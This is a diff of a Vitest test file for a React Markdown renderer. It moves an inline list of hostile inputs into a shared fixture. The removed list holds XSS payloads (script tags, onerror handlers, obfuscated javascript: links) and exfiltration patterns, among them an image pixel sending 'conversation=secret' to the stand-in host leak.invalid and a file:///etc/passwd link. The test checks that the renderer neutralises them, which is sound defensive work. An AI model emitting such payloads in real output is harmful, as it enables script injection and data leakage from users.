@@ -1,52 +1,13 @@
 import { renderToStaticMarkup } from "react-dom/server";
 import { describe, expect, it, test } from "vitest";
+import { HOSTILE_TEXTS } from "../../../test/fixtures/hostile-texts.ts";
 import { Markdown } from "./markdown.tsx";
 import { safeAddress } from "./safe-tree.ts";
 
 const draw = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
 
-/** Ways in which a text has tried to become more than a text. */
-const HOSTILE = [
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg onload=alert(1)><circle/></svg>",
-  "<iframe src='https://leak.invalid'></iframe>",
-  "<a href='javascript:alert(1)'>click</a>",
-  "<div style='background:url(https://leak.invalid/x)'>a</div>",
-  "<style>@import url(https://leak.invalid)</style>",
-  "<form action=https://leak.invalid><input name=a></form>",
-  "<base href=https://leak.invalid>",
-  "<meta http-equiv=refresh content='0;url=https://leak.invalid'>",
-  "<object data=https://leak.invalid></object><embed src=https://leak.invalid>",
-  "<video src=https://leak.invalid autoplay></video><audio src=https://leak.invalid></audio>",
-  "<link rel=stylesheet href=https://leak.invalid>",
-  "![pixel](https://leak.invalid/p.png?conversation=secret)",
-  "![data](data:image/svg+xml;base64,PHN2Zy8+)",
-  "[![nested](https://leak.invalid/p.png)](https://example.org)",
-  "![reference][r]\n\n[r]: https://leak.invalid/p.png",
-  "[click](javascript:alert(1))",
-  "[click](JaVaScRiPt:alert(1))",
-  "[click](java\tscript:alert(1))",
-  "[click](\u0001javascript:alert(1))",
-  "[click](data:text/html,<script>alert(1)</script>)",
-  "[click](vbscript:x)",
-  "[click](file:///etc/passwd)",
-  "[click](//leak.invalid)",
-  "<javascript:alert(1)>",
-  "[a](<javascript:alert(1)>)",
-  "```html\n<script>alert(1)</script>\n```",
-  "```mermaid\ngraph TD; A-->B\n```",
-  "`<script>alert(1)</script>`",
-  "$$\\href{javascript:alert(1)}{x}$$",
-  "| a |\n|---|\n| <img src=https://leak.invalid> |",
-  "<!-- <script>alert(1)</script> -->",
-  "<![CDATA[<script>alert(1)</script>]]>",
-  "- [ ] <img src=x onerror=alert(1)>",
-  "[^1]\n\n[^1]: ![x](https://leak.invalid)",
-];
-
 describe("a hostile text", () => {
-  it.each(HOSTILE)("%j runs nothing, loads nothing and leads nowhere foreign", (text) => {
+  it.each(HOSTILE_TEXTS)("%j runs nothing, loads nothing and leads nowhere foreign", (text) => {
     const html = draw(text);
     const tags = [...html.matchAll(/<([a-z][\w-]*)/gi)].map(([, tag]) => tag?.toLowerCase());
     expect(tags).not.toEqual(
